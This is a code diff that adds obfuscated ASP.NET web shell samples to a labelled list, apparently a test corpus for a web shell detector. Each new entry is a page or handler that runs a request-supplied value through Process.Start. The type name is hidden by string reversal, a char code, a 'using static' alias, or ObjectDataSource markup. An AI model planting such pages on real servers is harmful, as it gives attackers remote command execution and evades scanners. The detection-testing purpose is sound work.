@@ -751,6 +751,20 @@ EXTRA: list[tuple[str, str, str, str, str]] = [  # axis, variant, extension, pag
      _CS_PAGE.format('void Page_Load(object s, EventArgs e) { Type.GetType(string.Concat("System.Diag", "nostics.Process"))'
                      '.GetMethod("Start", new Type[] { typeof(string), typeof(string) })'
                      '.Invoke(null, new object[] { "hostname", {X} }); }'), 'Request["x"]'),
+    ("obfuscation", "cs:typename-reversed", ".aspx",
+     _CS_PAGE.format('void Page_Load(object s, EventArgs e) { Type.GetType(new string("ssecorP.scitsongaiD.metsyS"'
+                     '.Reverse().ToArray())).GetMethod("Start", new Type[] { typeof(string), typeof(string) })'
+                     '.Invoke(null, new object[] { "hostname", {X} }); }'), 'Request["x"]'),
+    ("obfuscation", "cs:typename-char-in-parentheses", ".aspx",
+     _CS_PAGE.format('void Page_Load(object s, EventArgs e) { Type.GetType("System.Diagnostics." + (char)(80) + "rocess")'
+                     '.GetMethod("Start", new Type[] { typeof(string), typeof(string) })'
+                     '.Invoke(null, new object[] { "hostname", {X} }); }'), 'Request["x"]'),
+    ("alias", "cs:using-static", ".ashx",
+     _CS_HANDLER.format("using static System.Diagnostics.Process;", 'Start("hostname", {X});'), 'c.Request["x"]'),
+    ("container", "cs:object-data-source-markup", ".aspx",
+     '<%@ Page Language="C#" %>\n<asp:ObjectDataSource ID="o" runat="server" TypeName="System.Diagnostics.Process" '
+     'SelectMethod="Start">\n<SelectParameters>{X}</SelectParameters>\n</asp:ObjectDataSource>',
+     '<asp:QueryStringParameter Name="fileName" QueryStringField="c" />'),
     ("obfuscation", "cs:verbatim-identifiers", ".aspx",
      '<%@ Page Language="C#" %>\n<% System.Diagnostics.@Process.@Start("hostname", {X}); %>', '@Request["x"]'),
     ("obfuscation", "cs:unicode-escaped-names", ".aspx",
